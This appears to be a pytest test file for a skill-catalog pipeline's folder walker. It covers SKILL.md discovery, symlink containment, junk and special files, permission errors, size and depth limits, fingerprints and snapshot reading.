"""Reading of roots: the folders that a walk finds, their contents, and the ignored rest."""

import contextlib
import hashlib
import os
import socket
import subprocess
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import ClassVar

import pytest

from catalog.model import paths as model_paths
from catalog.model.errors import RootUnreadable
from catalog.model.finding import ALWAYS, PUBLICATION_TYPES
from catalog.model.skill import FileEntry
from pipeline.cli.output.finding_types import REGISTRY
from pipeline.roots import source
from pipeline.roots.codes import OUTSIDE_SKILLS
from pipeline.roots.local import walk
from pipeline.roots.local.folder import Folder, Limits, LooseFinding
from pipeline.roots.snapshot import digest
from pipeline.roots.source import DEFAULT_LIMITS, Source
from pipeline.validation.codes import PLACEHOLDER_TEXT
from tests.support import roots

NOBODY = 65534


def write(root: Path, *paths: str) -> None:
    """Write files whose text is their path; a path ending in a slash is a directory."""
    for path in paths:
        target = root / path
        if path.endswith("/"):
            target.mkdir(parents=True)
        else:
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(path)


def folders(root: Path, under: str = "", limits: Limits = DEFAULT_LIMITS) -> list[str]:
    """Return the paths of the skill folders that a walk finds."""
    return [f.path for f in roots.walk(root, under, limits) if isinstance(f, Folder)]


def strays(root: Path, limits: Limits = DEFAULT_LIMITS) -> list[tuple[str, str]]:
    """Return the paths and codes of a walk's loose findings but those of `outside_skills`."""
    found = roots.walk(root, "", limits)
    return [
        (f.path, f.finding.code)
        for f in found
        if isinstance(f, LooseFinding) and f.finding.code not in OUTSIDE_SKILLS
    ]


def seen(root: Path, path: str = "s", limits: Limits = DEFAULT_LIMITS) -> Folder:
    """Return a folder that must exist."""
    folder = roots.look(root, path, limits)
    assert folder is not None
    return folder


def names(folder: Folder) -> list[str]:
    """Return the paths of a folder's files."""
    return [path for path, _ in folder.entries]


def problems(folder: Folder) -> list[tuple[str, str | None]]:
    """Return the codes and paths of a folder's problems."""
    return [(problem.code, problem.path) for problem in folder.problems]


class TestWhatIsASkillFolder:
    """A directory that directly holds SKILL.md, unless it is another skill's data."""

    @pytest.mark.parametrize(
        ("files", "expected"),
        [
            pytest.param(
                ["s/SKILL.md"],
                ["s"],
                id="directly in the root",
                marks=pytest.mark.requirement("client-guide/folders"),
            ),
            pytest.param(
                ["a/b/c/SKILL.md"],
                ["a/b/c"],
                id="below directories that are no skills",
                marks=pytest.mark.requirement("client-guide/folders"),
            ),
            pytest.param(
                ["s/README.md", "s/sub/"],
                [],
                id="no SKILL.md",
                marks=pytest.mark.requirement("agent-skills/skill-md"),
            ),
            pytest.param(["SKILL.md"], [], id="the root itself"),
            pytest.param(["s/SKILL.md", "s/sub/t/SKILL.md"], ["s", "s/sub/t"], id="nested"),
            pytest.param(
                ["s/SKILL.md", "s/sub/SKILL.md", "s/sub/u/SKILL.md"],
                ["s", "s/sub", "s/sub/u"],
                id="nested twice",
            ),
            pytest.param(
                [
                    "s/SKILL.md",
                    "s/assets/SKILL.md",
                    "s/templates/t/SKILL.md",
                    "s/examples/e/SKILL.md",
                    "s/tests/a/b/SKILL.md",
                    "s/evals/SKILL.md",
                ],
                ["s"],
                id="data",
            ),
            pytest.param(
                ["s/SKILL.md", "s/n/SKILL.md", "s/n/tests/SKILL.md"],
                ["s", "s/n"],
                id="data of a nested one",
            ),
            pytest.param(
                ["s/SKILL.md", "s/docs/examples/SKILL.md"],
                ["s", "s/docs/examples"],
                id="a data folder is one of the skill itself",
            ),
            pytest.param(
                ["examples/SKILL.md", "tests/t/SKILL.md"],
                ["examples", "tests/t"],
                id="a data folder of no skill is none",
            ),
            pytest.param(
                [".claude/skills/s/SKILL.md", ".github/SKILL.md"],
                [".claude/skills/s", ".github"],
                id="hidden directories",
            ),
            pytest.param(
                [
                    ".git/s/SKILL.md",
                    "node_modules/SKILL.md",
                    "s.tmp/SKILL.md",
                    ".skilldrop-x/SKILL.md",
                    "@eaDir/s/SKILL.md",
                ],
                [],
                id="junk",
                marks=pytest.mark.requirement("client-guide/skip"),
            ),
            pytest.param(
                ["b/SKILL.md", "a/SKILL.md", "a/x/SKILL.md", "a-b/SKILL.md"],
                ["a", "a/x", "a-b", "b"],
                id="sorted by name, outer before inner",
            ),
            pytest.param(
                ["s/skill.md", "t/Skill.md", "u/SKILL.MD", "v/sKiLl.mD"],
                ["s", "t", "u", "v"],
                id="any spelling",
            ),
            pytest.param(["s/SKILL.md.bak", "t/SKILLS.md"], [], id="similar names"),
        ],
    )
    def test_found(self, tmp_path: Path, files: list[str], expected: list[str]) -> None:
        """The walk finds exactly the folders that are skills, in order."""
        write(tmp_path, *files)
        assert folders(tmp_path) == expected

    def test_a_file_belongs_to_its_nearest_skill_folder(self, tmp_path: Path) -> None:
        """Files of a nested skill and junk are left out; data folders are included."""
        write(
            tmp_path,
            "s/SKILL.md",
            "s/a/b.txt",
            "s/n/SKILL.md",
            "s/n/c.txt",
            "s/tests/t/SKILL.md",
            "s/tests/d.txt",
            "s/.git/config",
            "s/x.swp",
            "s/.hidden",
            "s/evals/SKILL.md/e.txt",
        )
        assert names(seen(tmp_path)) == [
            ".hidden",
            "SKILL.md",
            "a/b.txt",
            "evals/SKILL.md/e.txt",
            "tests/d.txt",
            "tests/t/SKILL.md",
        ]
        assert names(seen(tmp_path, "s/n")) == ["SKILL.md", "c.txt"]

    @pytest.mark.parametrize(
        "name",
        [
            ".git",
            ".DS_Store",
            "Thumbs.db",
            "._SKILL.md",
            "x.part",
            "x.crdownload",
            "x.swo",
            "x~",
            ".~lock.a.odt#",
            "#x#",
            ".#x",
            "4913",
            "lost+found",
            ".venv",
            "~$a.docx",
        ],
    )
    def test_junk_is_no_part_of_a_skill(self, tmp_path: Path, name: str) -> None:
        """Leftovers of editors, desktops and downloads are listed as left out, and not read."""
        write(tmp_path, "s/SKILL.md")
        before = seen(tmp_path)
        write(tmp_path, f"s/{name}")
        folder = seen(tmp_path)
        assert names(folder) == names(before)
        assert [(file.path, file.reason) for file in folder.left_out] == [(name, "name")]
        assert folder.fingerprint != before.fingerprint

    @pytest.mark.parametrize("name", ["venv", "#", "#x", "a.tmpl", "x.party", ".gitignore", "git"])
    def test_names_similar_to_junk_are_kept(self, tmp_path: Path, name: str) -> None:
        """Every file that an author may want is included."""
        write(tmp_path, "s/SKILL.md", f"s/{name}")
        assert names(seen(tmp_path)) == sorted(["SKILL.md", name])

    def test_a_skill_md_in_the_root_is_a_loose_finding(self, tmp_path: Path) -> None:
        """The root is no skill, and every kind of walk reports it."""
        write(tmp_path, "SKILL.md", "s/SKILL.md")
        assert strays(tmp_path) == [("SKILL.md", "skill-md-in-root")]
        assert [f.path for f in roots.walk(tmp_path, "SKILL.md")] == ["SKILL.md"]


class TestSkillMd:
    """Spelling and type of SKILL.md."""

    @pytest.mark.requirement("agent-skills/skill-md-name")
    def test_another_spelling_is_a_warning(self, tmp_path: Path) -> None:
        """It is still read."""
        write(tmp_path, "s/skill.MD")
        folder = seen(tmp_path)
        assert problems(folder) == [("skill-md-other-case", "skill.MD")]
        assert folder.skill_md_name == "skill.MD"

    def test_two_spellings_are_an_error_that_names_both(self, tmp_path: Path) -> None:
        """The intended one is unknown; the right spelling is read."""
        write(tmp_path, "s/skill.md", "s/SKILL.md", "s/tests/skill.md", "s/tests/SKILL.md")
        folder = seen(tmp_path)
        assert problems(folder) == [("skill-md-twice", None)]
        assert "SKILL.md and skill.md" in folder.problems[0].message
        assert folder.skill_md_name == "SKILL.md"

    @pytest.mark.parametrize(
        ("make", "word"),
        [
            pytest.param(os.mkdir, "directory", id="directory"),
            pytest.param(os.mkfifo, "pipe", id="pipe"),
            pytest.param(lambda p: p.symlink_to("nowhere"), "nothing", id="dangling link"),
            pytest.param(lambda p: p.symlink_to(p.name), "itself", id="looping link"),
            pytest.param(
                lambda p: p.symlink_to("/etc/hostname"),
                "out of the root",
                id="link out of the root",
            ),
            pytest.param(lambda p: p.symlink_to("../d"), "directory", id="link to a directory"),
        ],
    )
    def test_no_regular_file(self, tmp_path: Path, make: Callable[[Path], None], word: str) -> None:
        """The folder is a skill folder with that one problem, and nothing blocks."""
        write(tmp_path, "s/a.txt", "d/SKILL.md/SKILL.md")
        make(tmp_path / "s/SKILL.md")
        folder = seen(tmp_path)
        assert problems(folder) == [("skill-md-not-a-file", "SKILL.md")]
        assert word in folder.problems[0].message
        snapshot = roots.read(tmp_path, folder)
        assert snapshot is not None
        assert (snapshot.skill_md_name, snapshot.skill_md, snapshot.digest) == (None, b"", None)
        assert folders(tmp_path) == ["d", "s"]

    def test_a_link_within_the_root_is_as_good_as_a_file(self, tmp_path: Path) -> None:
        """Its target is read."""
        write(tmp_path, "shared/one.md", "s/x")
        (tmp_path / "s/SKILL.md").symlink_to("../shared/one.md")
        snapshot = roots.read(tmp_path, seen(tmp_path))
        assert snapshot is not None
        assert snapshot.skill_md == b"shared/one.md"
        assert snapshot.problems == ()


class TestLinks:
    """A link is followed if its target lies in the root, up to a limit."""

    @pytest.fixture
    def root(self, tmp_path: Path) -> Path:
        """Return a root with a skill, beside files outside of it."""
        write(
            tmp_path,
            "root/s/SKILL.md",
            "root/shared/a.txt",
            "root/shared/b/c.txt",
            "outside/secret.txt",
            "root-twin/secret.txt",
        )
        return tmp_path / "root"

    def test_files_behind_links_belong_to_the_skill(self, root: Path) -> None:
        """Links to files and to directories within the root are followed, also absolute ones."""
        (root / "s/file.txt").symlink_to("../shared/a.txt")
        (root / "s/dir").symlink_to(root / "shared")
        folder = seen(root)
        assert names(folder) == ["SKILL.md", "dir/a.txt", "dir/b/c.txt", "file.txt"]
        snapshot = roots.read(root, folder)
        assert snapshot is not None
        assert [f.text for f in snapshot.files] == [
            None,
            "root/shared/a.txt",
            "root/shared/b/c.txt",
            "root/shared/a.txt",
        ]
        assert snapshot.problems == ()

    @pytest.mark.parametrize(
        ("target", "code"),
        [
            ("../../outside/secret.txt", "link-leaves-root"),
            ("../../outside", "link-leaves-root"),
            ("../../root-twin", "link-leaves-root"),
            ("/", "link-leaves-root"),
            ("nowhere", "link-dangling"),
            ("SKILL.md/x", "link-dangling"),
            ("link", "link-loop"),
            (".", "link-loop"),
            ("..", "link-loop"),
            ("../..", "link-leaves-root"),
        ],
    )
    def test_links_that_are_left_out(self, root: Path, target: str, code: str) -> None:
        """They are a warning in a skill, a loose finding elsewhere; the target is not read."""
        (root / "s/link").symlink_to(target)
        folder = seen(root)
        assert problems(folder) == [(code, "link")]
        assert names(folder) == ["SKILL.md"]
        (root / "w").mkdir()
        (root / "s/link").rename(root / "w/link")
        assert (strays(root), folders(root)) == (
            [("w/link", "link-dangling" if target == "SKILL.md/x" else code)],
            ["s"],
        )

    def test_a_link_to_a_special_file_is_left_out(self, root: Path) -> None:
        """A pipe behind a link is treated like a pipe."""
        os.mkfifo(root / "shared/pipe")
        (root / "s/link").symlink_to("../shared/pipe")
        assert problems(seen(root)) == [("special-file", "link")]

    def test_a_skill_is_found_by_its_own_path_and_by_a_link(self, root: Path) -> None:
        """The catalog decides which of the two paths wins."""
        (root / "alias").symlink_to("s")
        assert folders(root) == ["alias", "s"]
        snapshot = roots.read(root, seen(root, "alias"))
        assert snapshot is not None
        assert snapshot.skill_md == b"root/s/SKILL.md"

    def test_directories_full_of_links_to_one_another_are_no_trap(self, root: Path) -> None:
        """A skill folder is reached through one directory link at most; the rest is reported."""
        for name in "abcdefghij":
            write(root, f"web/{name}/SKILL.md")
            for other in "abcdefghij":
                (root / f"web/{name}/to-{other}").symlink_to(f"../{other}")
        found = folders(root, "web")
        assert len(found) == 10 + 10 * 9
        assert ("link-behind-link", "to-c") in problems(seen(root, "web/a/to-b"))
        assert folders(root, "web/a/to-b/to-c") == []
        assert roots.look(root, "web/a/to-b/to-c") is None

    def test_directories_outside_skills_full_of_links_to_one_another_are_no_trap(
        self, root: Path
    ) -> None:
        """Outside of skills, a directory link behind a directory link is a loose finding."""
        for name in "abcdefghij":
            write(root, f"web/{name}/s/SKILL.md")
            for other in "abcdefghij":
                (root / f"web/{name}/to-{other}").symlink_to(f"../{other}")
        assert len(folders(root, "web")) == 10 + 10 * 9
        assert ("web/a/to-b/to-c", "link-behind-link") in strays(root)

    def test_a_root_may_itself_be_reached_through_a_link(self, root: Path) -> None:
        """The same paths are inside and outside."""
        (root / "s/in").symlink_to("../shared/a.txt")
        (root / "s/out").symlink_to("../../outside")
        by_link = root.parent / "by-link"
        by_link.symlink_to(root)
        assert seen(by_link) == seen(root)
        assert problems(seen(by_link)) == [("link-leaves-root", "out")]
        assert roots.read(by_link, seen(by_link)) == roots.read(root, seen(root))


class TestOddThings:
    """Whatever the disk holds, the result is a finding and never a traceback."""

    def test_special_files_are_left_out(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """A pipe and a socket are a warning each, in a skill and elsewhere."""
        write(tmp_path, "s/SKILL.md", "w/x")
        monkeypatch.chdir(tmp_path)  # the path of a socket must be short
        os.mkfifo("s/pipe")
        os.mkfifo("w/pipe")
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind("s/socket")
        folder = seen(tmp_path)
        assert problems(folder) == [("special-file", "pipe"), ("special-file", "socket")]
        assert names(folder) == ["SKILL.md"]
        assert strays(tmp_path) == [("w/pipe", "special-file")]

    def test_names_that_are_not_utf8_work_with_a_warning(self, tmp_path: Path) -> None:
        """Their text is unique and leads back to the files."""
        folder = os.fsencode(tmp_path) + b"/caf\xe9"
        os.makedirs(folder + b"/d\xff")
        for name in (b"/SKILL.md", b"/d\xff/x", b"/y\xfe", b"/back\\slash", b"/\\xe9"):
            with open(folder + name, "wb") as file:
                file.write(name)
        (path,) = folders(tmp_path)
        assert path == r"caf\xe9"
        found = seen(tmp_path, path)
        assert names(found) == ["SKILL.md", r"\\xe9", r"back\\slash", r"d\xff/x", r"y\xfe"]
        assert problems(found) == [
            ("name-not-utf8", None),
            ("name-not-utf8", r"d\xff"),
            ("name-not-utf8", r"y\xfe"),
        ]
        snapshot = roots.read(tmp_path, found)
        assert snapshot is not None
        assert [f.text for f in snapshot.files] == [None, "/\\xe9", "/back\\slash", None, None]

    @pytest.mark.parametrize(
        "raw",
        [
            b"plain",
            "ü 技能".encode(),
            b"a\\b",
            b"\\xe9",
            b"\xe9",
            b"\\\xe9\\",
            b"\\\\x2f",
            b"\xff\xfe/\xed\xa0\x80",
            b"x.zip!/y",
            b"x.Tar.gz!",
            b"\\x21",
            b"!",
            b"a!/b",
        ],
        ids=repr,
    )
    def test_text_paths_lead_back(self, raw: bytes) -> None:
        """The text is valid UTF-8, and `os_path` restores the same bytes."""
        text = model_paths.text_path(os.fsdecode(raw))
        assert os.fsencode(model_paths.os_path(text)) == raw
        text.encode()

    def test_text_never_smuggles_a_slash_into_a_path(self) -> None:
        """Only bytes that `text_path` escapes are unescaped."""
        assert model_paths.os_path(r"..\x2f..") == r"..\x2f.."

    @pytest.fixture
    def deep(self, tmp_path: Path) -> Iterator[Path]:
        """Return a root that is removed here, as pytest's own clean-up recurses."""
        root = tmp_path / "deep"
        root.mkdir()
        yield root
        os.chdir(tmp_path)
        subprocess.run(["rm", "-rf", root], check=True)

    @staticmethod
    def dig(top: Path, name: str, levels: int) -> None:
        """Create nested directories of one name, and stay in the innermost."""
        top.mkdir(exist_ok=True)
        os.chdir(top)
        for _ in range(levels):
            os.mkdir(name)
            os.chdir(name)

    @pytest.mark.requirement("client-guide/bounds")
    @pytest.mark.parametrize(
        ("length", "levels", "code"),
        [
            (1, 1100, "folder-too-deep"),
            (200, 30, "directory-unreadable"),  # longer than PATH_MAX
        ],
    )
    def test_very_deep_trees(self, deep: Path, length: int, levels: int, code: str) -> None:
        """Outside of skills they are a loose finding; inside they reject the skill, once."""
        self.dig(deep / "s", "d" * length, levels)
        self.dig(deep / "w", "d" * length, levels)
        write(deep, "s/SKILL.md")
        ((problem, _),) = problems(seen(deep))
        ((path, stray),) = strays(deep)
        assert (problem, stray) == (code, code)
        assert roots.look(deep, path) is None
        assert walk.unit_of(str(deep), f"{deep}/{path}/d/d/d") == "w"

    def test_a_walk_does_not_recurse(self, deep: Path) -> None:
        """Without the limit, even a very deep skill is found and read."""
        self.dig(deep, "d", 1100)
        Path("SKILL.md").write_text("deep")
        limits = Limits(depth=2000)
        (folder,) = roots.walk(deep, "", limits)
        assert isinstance(folder, Folder)
        snapshot = roots.read(deep, folder, limits)
        assert snapshot is not None
        assert snapshot.skill_md == b"deep"


class TestUnreadable:
    """A file without read permission is an error of its skill only."""

    @pytest.fixture
    def root(self, tmp_path: Path) -> Iterator[Path]:
        """Return a root in which permissions apply, even if the tests run as root."""
        with contextlib.ExitStack() as stack:
            root = tmp_path
            if os.geteuid() == 0:
                root = Path(stack.enter_context(tempfile.TemporaryDirectory()))
                os.chown(root, NOBODY, NOBODY)
                os.seteuid(NOBODY)
                stack.callback(os.seteuid, 0)
            write(root, "s/SKILL.md", "s/d/x.txt", "s/y.txt", "t/SKILL.md")
            stack.callback(self.unlock, root)
            yield root

    @staticmethod
    def unlock(root: Path) -> None:
        """Allow removing the folder."""
        root.chmod(0o700)
        for path in ("s", "s/d"):
            (root / path).chmod(0o700)

    @pytest.mark.parametrize("name", ["SKILL.md", "y.txt", "d/x.txt"])
    def test_a_file(self, root: Path, name: str) -> None:
        """It is reported by the reading; the other files are read."""
        (root / "s" / name).chmod(0)
        folder = seen(root)
        snapshot = roots.read(root, folder)
        assert snapshot is not None
        assert [(p.code, p.path) for p in snapshot.problems] == [("file-unreadable", name)]
        assert snapshot.digest is None
        assert name not in [f.path for f in snapshot.files]
        assert len(snapshot.files) == 2
        assert (snapshot.skill_md_name is None) == (name == "SKILL.md")

    def test_a_directory_of_a_skill(self, root: Path) -> None:
        """The walk reports it; it changes the fingerprint and prevents a digest."""
        before = seen(root).fingerprint
        (root / "s/d").chmod(0)
        folder = seen(root)
        assert problems(folder) == [("directory-unreadable", "d")]
        assert folder.fingerprint != before
        snapshot = roots.read(root, folder)
        assert snapshot is not None
        assert snapshot.digest is None

    def test_a_directory_that_can_be_listed_but_not_entered(self, root: Path) -> None:
        """Only the names of its files are known."""
        (root / "s/d").chmod(0o600)
        assert problems(seen(root)) == [("file-unreadable", "d/x.txt")]

    def test_a_directory_outside_a_skill(self, root: Path) -> None:
        """It may or may not be a skill folder, so it is a loose finding."""
        (root / "s").chmod(0)
        assert strays(root) == [("s", "directory-unreadable")]
        assert folders(root) == ["t"]

    def test_a_root(self, root: Path) -> None:
        """Only a root raises an error, with a sentence that gives its path and the reason."""
        root.chmod(0)
        with pytest.raises(RootUnreadable, match=f"{root} cannot be listed: Permission denied"):
            list(roots.walk(root))


class TestLimits:
    """A folder that exceeds a limit is rejected without reading, and no other folder with it."""

    @pytest.mark.parametrize(
        ("limits", "code"),
        [
            (Limits(files=4), None),
            (Limits(files=3), "too-many-files"),
            (Limits(files=1), "too-many-files"),
            (Limits(bytes=33), None),
            (Limits(bytes=32), "folder-too-large"),
            (Limits(depth=3), None),
            (Limits(depth=2), "folder-too-deep"),
            (Limits(skill_md_bytes=10), None),
            (Limits(skill_md_bytes=9), "skill-md-too-large"),
        ],
    )
    def test_each(self, tmp_path: Path, limits: Limits, code: str | None) -> None:
        """At the limit everything is read; above it at most SKILL.md, without a digest."""
        write(tmp_path, "s/a", "s/SKILL.md", "s/b/c/file", "s/b/d/file", "t/SKILL.md")
        (tmp_path / "t/SKILL.md").write_text("small")
        folder = seen(tmp_path, "s", limits)
        assert [found for found, _ in problems(folder)] == ([code] if code else [])
        snapshot = roots.read(tmp_path, folder, limits)
        assert snapshot is not None
        readable = [] if code == "skill-md-too-large" else ["SKILL.md"]
        expected = readable if code else ["SKILL.md", "a", "b/c/file", "b/d/file"]
        assert [f.path for f in snapshot.files] == expected
        assert (snapshot.digest is None) == bool(code)
        assert snapshot.skill_md == (b"s/SKILL.md" if readable else b"")
        assert problems(seen(tmp_path, "t", limits)) == [] or limits.files == 0

    def test_links_and_pipes_count_as_files(self, tmp_path: Path) -> None:
        """A folder with too many of them does not get a finding for each."""
        write(tmp_path, "s/SKILL.md")
        for number in range(10):
            os.mkfifo(tmp_path / f"s/{number}")
            (tmp_path / f"s/link-{number}").symlink_to("SKILL.md")
        folder = seen(tmp_path, "s", Limits(files=5))
        assert problems(folder) == [("too-many-files", None)]
        assert names(folder) == ["SKILL.md"]

    @pytest.mark.requirement("client-guide/bounds")
    def test_directories_are_limited_too(self, tmp_path: Path) -> None:
        """Empty directories take time, too, and so does a finding for each."""
        write(tmp_path, "s/SKILL.md", *(f"s/\udcff{number}/" for number in range(10)))
        assert problems(seen(tmp_path, "s", Limits(files=5))) == [
            ("too-many-files", None),
            *(("name-not-utf8", rf"\xff{number}") for number in range(4)),
        ]

    def test_a_skill_inside_one_that_is_too_large_is_found(self, tmp_path: Path) -> None:
        """The limit rejects only the outer folder."""
        write(tmp_path, "s/SKILL.md", "s/a", "s/b", "s/z/n/SKILL.md")
        limits = Limits(files=2)
        assert folders(tmp_path, "", limits) == ["s", "s/z/n"]
        assert problems(seen(tmp_path, "s/z/n", limits)) == []

    def test_the_files_of_a_folder_too_full_are_not_even_statted(self, tmp_path: Path) -> None:
        """They are counted for the message, and kept up to the limit."""
        write(tmp_path, "s/SKILL.md", *(f"s/d/{number}" for number in range(50)))
        folder = seen(tmp_path, "s", Limits(files=10))
        assert len(folder.entries) <= 11
        assert "contains 51 files in 2 directories; the limit is 10" in folder.problems[0].message
        write(tmp_path, "t/SKILL.md", *(f"t/{number}" for number in range(50)))
        folder = seen(tmp_path, "t", Limits(files=10))
        assert "contains 51 files in 1 directory; the limit is 10" in folder.problems[0].message

    def test_a_huge_file_is_not_read(self, tmp_path: Path) -> None:
        """The sizes are added first; reading this one would take minutes."""
        write(tmp_path, "s/SKILL.md", "s/huge")
        os.truncate(tmp_path / "s/huge", 1 << 40)
        snapshot = roots.read(tmp_path, seen(tmp_path))
        assert snapshot is not None
        assert [f.path for f in snapshot.files] == ["SKILL.md"]


class TestFingerprint:
    """It changes with everything that may change a verdict, and with nothing else."""

    @pytest.mark.parametrize(
        "change",
        [
            pytest.param(lambda s: (s / "x.sh").write_text("other"), id="content"),
            pytest.param(lambda s: os.utime(s / "x.sh", (1, 1)), id="time"),
            pytest.param(lambda s: (s / "x.sh").chmod(0o755), id="mode"),
            pytest.param(lambda s: write(s, "new"), id="added"),
            pytest.param(lambda s: (s / "x.sh").unlink(), id="removed"),
            pytest.param(lambda s: (s / "x.sh").rename(s / "y.sh"), id="renamed"),
            pytest.param(lambda s: (s / "d").rename(s / "e"), id="directory renamed"),
            pytest.param(lambda s: os.mkfifo(s / "pipe"), id="pipe"),
            pytest.param(lambda s: (s / "link").symlink_to("/"), id="link out of the root"),
            pytest.param(lambda s: (s / "skill.md").write_text(""), id="second SKILL.md"),
        ],
    )
    def test_changes(self, tmp_path: Path, change: Callable[[Path], object]) -> None:
        """Every change to a file, or to an ignored entry with a finding, is noticed."""
        write(tmp_path, "s/SKILL.md", "s/x.sh", "s/d/z")
        before = seen(tmp_path)
        change(tmp_path / "s")
        assert seen(tmp_path).fingerprint != before.fingerprint

    def test_a_file_replaced_by_its_twin_is_noticed(self, tmp_path: Path) -> None:
        """Even with the same size and times: the inode and its ctime differ."""
        write(tmp_path, "s/SKILL.md", "s/x", "twin")
        stat = os.stat(tmp_path / "s/x")
        before = seen(tmp_path)
        (tmp_path / "twin").write_text("S/X")
        os.utime(tmp_path / "twin", ns=(stat.st_atime_ns, stat.st_mtime_ns))
        (tmp_path / "twin").replace(tmp_path / "s/x")
        assert seen(tmp_path).fingerprint != before.fingerprint

    def test_reading_and_an_empty_directory_change_nothing(self, tmp_path: Path) -> None:
        """Reading and empty directories leave it as it is."""
        write(tmp_path, "s/SKILL.md")
        before = seen(tmp_path)
        roots.read(tmp_path, before)
        write(tmp_path, "s/empty/", "s/n/SKILL.md")
        assert seen(tmp_path).fingerprint == before.fingerprint

    def test_changed_ns_is_the_newest_change_of_files_and_directories(self, tmp_path: Path) -> None:
        """A removal changes its directory; a change in a nested skill does not count."""
        write(tmp_path, "s/SKILL.md", "s/d/x", "s/n/SKILL.md")
        newest = max(os.stat(tmp_path / p).st_ctime_ns for p in ("s", "s/d", "s/SKILL.md", "s/d/x"))
        assert seen(tmp_path).changed_ns == newest
        (tmp_path / "s/d/x").unlink()
        after = os.stat(tmp_path / "s/d").st_ctime_ns
        assert seen(tmp_path).changed_ns == after
        while os.stat(tmp_path / "s/n/SKILL.md").st_ctime_ns <= after:
            (tmp_path / "s/n/SKILL.md").write_text("changed")
        assert seen(tmp_path).changed_ns == after


class TestPartOfARoot:
    """A walk over a part finds the same as a walk over the whole."""

    FILES = (
        "SKILL.md",
        "s/SKILL.md",
        "s/sub/n/SKILL.md",
        "s/assets/a/SKILL.md",
        "odd/Skill.md",
        "odd/tests/t/SKILL.md",
        "odd/u/SKILL.md",
        "w/x/SKILL.md",
        "w/examples/y/SKILL.md",
        ".git/g/SKILL.md",
        "w/SKILL.md.d/z/SKILL.md",
        "file",
        "w/there.zip",
        "s/there.zip",
        "w/two.tgz/f/SKILL.md",
        "odd/there.zip",
        "w/x!/SKILL.md",
        "d/SKILL.md/e/SKILL.md",
        "deep/1/2/3/SKILL.md",
        "s/1/2/3/4/x",
        "odd/1/2/3/4/x",
    )
    LINKS = (
        ("w/to-s", "../s"),
        ("w/out", "/"),
        ("dangling", "nowhere"),
        ("s/out", "/etc"),
        ("w/loop", ".."),
        ("to-w", "w"),
        ("odd/to-x", "../w/x"),
        ("s/sub/to-w", "../../w"),
        ("odd/u/out", "/"),
        ("odd/1/out", "/"),
        ("w/link.zip", "there.zip"),
        ("out.zip", "/etc/hostname"),
    )

    @pytest.fixture
    def root(self, tmp_path: Path) -> Path:
        """Return a root with entries of every kind."""
        write(tmp_path, *self.FILES)
        for link, target in self.LINKS:
            (tmp_path / link).symlink_to(target)
        return tmp_path

    def test_agrees_with_the_whole(self, root: Path) -> None:
        """For every path of the root, of any kind."""
        limits = Limits(depth=4)
        whole = list(roots.walk(root, "", limits))
        paths = {
            str(Path(top, name).relative_to(root))
            for top, directories, files in os.walk(root)
            for name in directories + files
        }
        paths |= {f"{path}!" for path in paths if path.endswith((".zip", ".tgz"))}
        paths |= {found.path for found in whole} | {"nowhere", "w/../s", "s/", "/", ".", "w//x"}
        in_skill = {found.path for found in whole if isinstance(found, Folder)}
        for under in sorted(paths):
            part = [f for f in whole if f.path == under or f.path.startswith(f"{under}/")]
            assert list(roots.walk(root, under, limits)) == part, under
            if under.endswith("!"):
                continue
            expected = part[0] if under in in_skill else None
            assert roots.look(root, under, limits) == expected, under

    def test_a_vanished_part_is_nothing(self, root: Path) -> None:
        """Only the catalog knows its former contents."""
        assert list(roots.walk(root, "nowhere/at/all")) == []
        assert roots.look(root, "nowhere") is None

    @pytest.mark.parametrize("under", ["", "s"])
    def test_a_vanished_root_raises(self, tmp_path: Path, under: str) -> None:
        """A missing share is not an empty share, whichever part is walked."""
        with pytest.raises(RootUnreadable, match="gone cannot be listed: No such file"):
            list(roots.walk(tmp_path / "gone", under))
        with pytest.raises(RootUnreadable):
            roots.look(tmp_path / "gone", "s")

    def test_a_root_that_is_a_file_raises(self, tmp_path: Path) -> None:
        """It cannot be listed either."""
        write(tmp_path, "file")
        with pytest.raises(RootUnreadable, match="Not a directory"):
            list(roots.walk(tmp_path / "file"))

    @pytest.mark.parametrize(
        ("hint", "unit"),
        [
            ("", ""),
            ("/s", "s"),
            ("/s/SKILL.md", "s"),
            ("/s/sub/n/SKILL.md", "s"),
            ("/s/gone/entirely", "s"),
            ("/w", "w"),
            ("/w/x/scripts/a.py", "w/x"),
            ("/w/gone/a.py", "w"),
            ("/w/examples/y", "w/examples/y"),
            ("/SKILL.md", "SKILL.md"),
            ("/new.zip", "new.zip"),
            ("/w/new.zip", "w"),
            ("/w/there.zip", "w/there.zip"),
            ("/s/there.zip", "s"),
            ("/s/.git/index", None),
            ("/s/x.swp", None),
            ("/../elsewhere", None),
            ("-twin/s", None),
            ("/odd/file", "odd"),
            ("/w/x/..", "w"),
            ("/caf\udce9/x", r"caf\xe9"),
        ],
    )
    def test_a_hint_settles_with_its_outermost_skill(
        self, root: Path, hint: str, unit: str | None
    ) -> None:
        """Otherwise with the entry of the root: files that arrive together wait together."""
        assert walk.unit_of(str(root), f"{root}{hint}") == unit


class TestReading:
    """A snapshot is the state of the files at one moment, or None."""

    CONTENTS: ClassVar[dict[str, bytes]] = {
        "SKILL.md": b"---\r\n",
        "assets/latin1": b"\xe9",
        "assets/nul": b"a\0b",
        "empty": b"",
        "references/r.md": "\ufeffgrüße".encode(),
        "scripts/run": b"x" * 20,
    }

    @pytest.fixture
    def folder(self, tmp_path: Path) -> Folder:
        """Return a folder with a file of each kind."""
        for name, content in self.CONTENTS.items():
            (tmp_path / "s" / name).parent.mkdir(parents=True, exist_ok=True)
            (tmp_path / "s" / name).write_bytes(content)
        (tmp_path / "s/scripts/run").chmod(0o710)
        return seen(tmp_path)

    def test_lists_every_file(self, tmp_path: Path, folder: Folder) -> None:
        """Each has its hash, size, mode and kind, and small texts are stored; all are judged."""
        snapshot = roots.read(tmp_path, folder, Limits(text_bytes=19))
        assert snapshot is not None
        assert [(f.path, f.size, f.sha256) for f in snapshot.files] == [
            (name, len(content), hashlib.sha256(content).hexdigest())
            for name, content in self.CONTENTS.items()
        ]
        assert [(f.path, f.kind, f.is_text, f.text, f.mode) for f in snapshot.files] == [
            ("SKILL.md", "skill_md", True, None, 0o644),
            ("assets/latin1", "asset", False, None, 0o644),
            ("assets/nul", "asset", False, None, 0o644),
            ("empty", "other", True, "", 0o644),
            ("references/r.md", "reference", True, "grüße", 0o644),
            ("scripts/run", "script", True, None, 0o755),
        ]
